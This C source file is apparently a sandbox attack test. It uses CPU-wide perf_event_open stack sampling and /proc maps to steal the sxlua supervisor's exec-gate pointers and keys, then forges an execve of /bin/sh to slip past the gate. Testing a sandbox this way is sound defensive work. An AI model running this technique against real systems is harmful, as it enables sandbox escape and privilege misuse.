/* perf_keys: a root workload whose policy allows perf_event_open samples sxlua's user stack
** (CPU-wide context-switch events with PERF_SAMPLE_STACK_USER: root keeps CAP_PERFMON, and
** CPU-wide events see sxlua though it is outside the workload's PID namespace) and looks
** for the exec gate's six words: three pointers into the gate's mapping (its address is in
** sxlua's /proc/PID/maps, which root may read) followed by three 64-bit keys. With them it
** maps the gate's address range in its own memory, writes a path and argv there, and tries
** a second execve. Prints "samples N, of sxlua's stack M, candidates K", then "SECOND EXEC
** PASSED THE GATE" if one got through, or exits 2 when perf_event_open is refused.
** Build: gcc -O2 perf_keys.c. Run under sxlua as root (attacks/allow_all.lua). */
#define _GNU_SOURCE
#include <errno.h>
#include <linux/perf_event.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <unistd.h>
#include <asm/perf_regs.h>

enum { CPUS = 64, RING_PAGES = 256, MAX_FOUND = 16, MAX_ANON = 512 };

struct range { uint64_t lo, hi; };
struct words { uint64_t w[6]; };

/* A number from /proc/WHO/status (the host's /proc: host pids, even inside the namespace). */
static long field_of(const char *who, const char *name) {
  char path[64], line[256];
  long v = -1;
  FILE *f;
  snprintf(path, sizeof path, "/proc/%s/status", who);
  if (!(f = fopen(path, "r"))) return -1;
  while (fgets(line, sizeof line, f))
    if (!strncmp(line, name, strlen(name))) v = strtol(line + strlen(name), 0, 10);
  fclose(f);
  return v;
}

static int is_sxlua(long pid) {
  char path[64], comm[32] = "";
  FILE *f;
  snprintf(path, sizeof path, "/proc/%ld/comm", pid);
  if (!(f = fopen(path, "r"))) return 0;
  if (!fgets(comm, sizeof comm, f)) comm[0] = 0;
  fclose(f);
  return !strncmp(comm, "sxlua", 5);
}

/* sxlua's stack, and every anonymous private rw mapping of sxlua's: the gate's pages are in
** one of them (wherever sxlua puts them). */
static void read_maps(long pid, struct range *stack, struct range *anon, int *nanon) {
  char path[64], line[512];
  FILE *f;
  snprintf(path, sizeof path, "/proc/%ld/maps", pid);
  if (!(f = fopen(path, "r"))) { perror(path); exit(2); }
  while (fgets(line, sizeof line, f)) {
    unsigned long lo, hi;
    char perm[8];
    int n = 0;
    if (sscanf(line, "%lx-%lx %7s %*s %*s %*s%n", &lo, &hi, perm, &n) < 3) continue;
    if (strstr(line, "[stack]")) stack->lo = lo, stack->hi = hi;
    else if (!strncmp(perm, "rw-p", 4) && strlen(line + n) <= 2 && *nanon < MAX_ANON)
      anon[(*nanon)++] = (struct range){ lo, hi };
  }
  fclose(f);
}

static int in(const struct range *r, uint64_t v) { return v >= r->lo && v < r->hi; }

/* The gate's pages as six words would have them: the range from the lowest of the three
** pointers' pages to past the highest, when all three are in one anonymous mapping and
** within 64 KiB of each other. */
static int gate_of(const uint64_t *w, const struct range *anon, int nanon, struct range *gate) {
  uint64_t lo = w[0], hi = w[0];
  for (int k = 1; k < 3; k++) {
    if (w[k] < lo) lo = w[k];
    if (w[k] > hi) hi = w[k];
  }
  if (hi - lo > 0x10000) return 0;
  for (int i = 0; i < nanon; i++)
    if (in(&anon[i], lo) && in(&anon[i], hi)) {
      gate->lo = lo & ~4095UL;
      gate->hi = (hi + 64 + 4095) & ~4095UL;
      return 1;
    }
  return 0;
}

/* Six words that look like the gate's: three pointers into it, three nonzero keys. */
static int scan(const uint64_t *w, size_t n, const struct range *anon, int nanon,
                struct words *found, int nfound) {
  for (size_t i = 0; i + 6 <= n && nfound < MAX_FOUND; i++) {
    int seen = 0;
    struct range gate;
    if (!w[i + 3] || !w[i + 4] || !w[i + 5] || !gate_of(w + i, anon, nanon, &gate)) continue;
    for (int k = 0; k < nfound && !seen; k++) seen = !memcmp(found[k].w, w + i, sizeof found[k].w);
    if (!seen) memcpy(found[nfound++].w, w + i, sizeof found[0].w);
  }
  return nfound;
}

/* In a child: the gate's range mapped here, a path and argv where the gate's point, and
** execve with the keys. 0 when the shell ran. */
static int try_exec(const struct range *gate, const struct words *c) {
  pid_t pid = fork();
  int status = 0;
  if (pid == 0) {   /* (the workload's own mappings may be there: then it cannot try) */
    static char a0[] = "sh", a1[] = "-c", a2[] = "echo SECOND EXEC PASSED THE GATE";
    char **av = (char **)c->w[1], **ev = (char **)c->w[2];
    if (mmap((void *)gate->lo, gate->hi - gate->lo, PROT_READ | PROT_WRITE,
             MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0) == MAP_FAILED) _exit(90);
    if (c->w[1] == c->w[0]) _exit(91);
    strcpy((char *)c->w[0], "/bin/sh");
    av[0] = a0; av[1] = a1; av[2] = a2; av[3] = 0;
    if (ev != av) ev[0] = 0;
    syscall(SYS_execve, c->w[0], c->w[1], c->w[2], c->w[3], c->w[4], c->w[5]);
    _exit(92);
  }
  waitpid(pid, &status, 0);
  return status;
}

int main(void) {
  long parent = field_of("self", "PPid:"), agent = parent;
  char who[32];
  struct range stack = { 0, 0 }, anon[MAX_ANON];
  struct words found[MAX_FOUND];
  int nanon = 0, nfound = 0, ncpu = (int)sysconf(_SC_NPROCESSORS_ONLN), passed = 0;
  size_t ring = (1 + RING_PAGES) * 4096, samples = 0, of_sxlua = 0;
  void *rings[CPUS];
  static char rec[1 << 17];
  if (ncpu > CPUS) ncpu = CPUS;
  snprintf(who, sizeof who, "%ld", parent);
  if (!is_sxlua(parent)) agent = field_of(who, "PPid:");     /* the reaper's parent */
  read_maps(agent, &stack, anon, &nanon);
  if (!nanon) { printf("no anonymous mapping in sxlua's maps\n"); return 2; }
  for (int cpu = 0; cpu < ncpu; cpu++) {
    struct perf_event_attr a;
    int fd;
    memset(&a, 0, sizeof a);
    a.size = sizeof a;
    a.type = PERF_TYPE_SOFTWARE;
    a.config = PERF_COUNT_SW_CONTEXT_SWITCHES;
    a.sample_period = 1;
    a.sample_type = PERF_SAMPLE_TID | PERF_SAMPLE_REGS_USER | PERF_SAMPLE_STACK_USER;
    a.sample_regs_user = 1ULL << PERF_REG_X86_SP;
    a.sample_stack_user = 32768;
    if ((fd = (int)syscall(SYS_perf_event_open, &a, -1, cpu, -1, 0)) < 0) {
      printf("perf_event_open (cpu %d): %s\n", cpu, strerror(errno));
      return 2;
    }
    if ((rings[cpu] = mmap(0, ring, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0)) == MAP_FAILED) {
      perror("mmap");
      return 2;
    }
  }
  for (int round = 0; round < 400 && nfound < MAX_FOUND; round++) {
    struct utsname u;
    uname(&u);                          /* notified under allow_all.lua: wakes sxlua */
    usleep(2000);
    for (int cpu = 0; cpu < ncpu; cpu++) {
      struct perf_event_mmap_page *mp = rings[cpu];
      const char *data = (const char *)rings[cpu] + 4096;
      uint64_t size = ring - 4096, head = __atomic_load_n(&mp->data_head, __ATOMIC_ACQUIRE);
      uint64_t tail = mp->data_tail;
      while (tail < head) {
        struct perf_event_header h;
        const char *p;
        uint64_t sp, dump;
        for (size_t i = 0; i < sizeof h; i++) ((char *)&h)[i] = data[(tail + i) % size];
        for (size_t i = 0; i < h.size && i < sizeof rec; i++) rec[i] = data[(tail + i) % size];
        tail += h.size;
        if (h.type != PERF_RECORD_SAMPLE) continue;
        samples++;
        p = rec + sizeof h + 8;                           /* past pid, tid */
        if (!*(const uint64_t *)p) continue;              /* no user registers: a kernel task */
        sp = *(const uint64_t *)(p + 8);
        dump = *(const uint64_t *)(p + 16);
        if (!dump || !in(&stack, sp)) continue;
        of_sxlua++;
        nfound = scan((const uint64_t *)(p + 24), *(const uint64_t *)(p + 24 + dump) / 8, anon,
                      nanon, found, nfound);
      }
      __atomic_store_n(&mp->data_tail, tail, __ATOMIC_RELEASE);
    }
  }
  printf("samples %zu, of sxlua's stack %zu, candidates %d\n", samples, of_sxlua, nfound);
  fflush(stdout);
  for (int k = 0; k < nfound; k++) {
    struct range gate;
    if (gate_of(found[k].w, anon, nanon, &gate) && try_exec(&gate, &found[k]) == 0) passed++;
  }
  return passed ? 1 : 0;
}
